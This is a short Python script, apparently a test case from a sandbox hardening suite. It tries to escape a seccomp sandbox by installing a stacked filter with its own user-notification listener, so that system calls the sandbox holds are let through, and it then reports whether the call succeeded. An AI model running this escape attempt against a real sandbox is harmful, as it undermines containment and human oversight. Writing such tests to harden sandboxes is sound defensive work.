"""Put a filter with a supervisor of its own over the sandbox's, so that held calls are let go on."""

import ctypes
import struct

from attack import syscall, verdict

NEW_LISTENER = 8
CONTINUE = 0x7FC00000
program = struct.pack("=HBBI", 6, 0, 0, CONTINUE)
buffer = ctypes.create_string_buffer(program, 8)
described = ctypes.create_string_buffer(struct.pack("=H6xQ", 1, ctypes.addressof(buffer)))
verdict(syscall("seccomp", 1, NEW_LISTENER, described) >= 0)
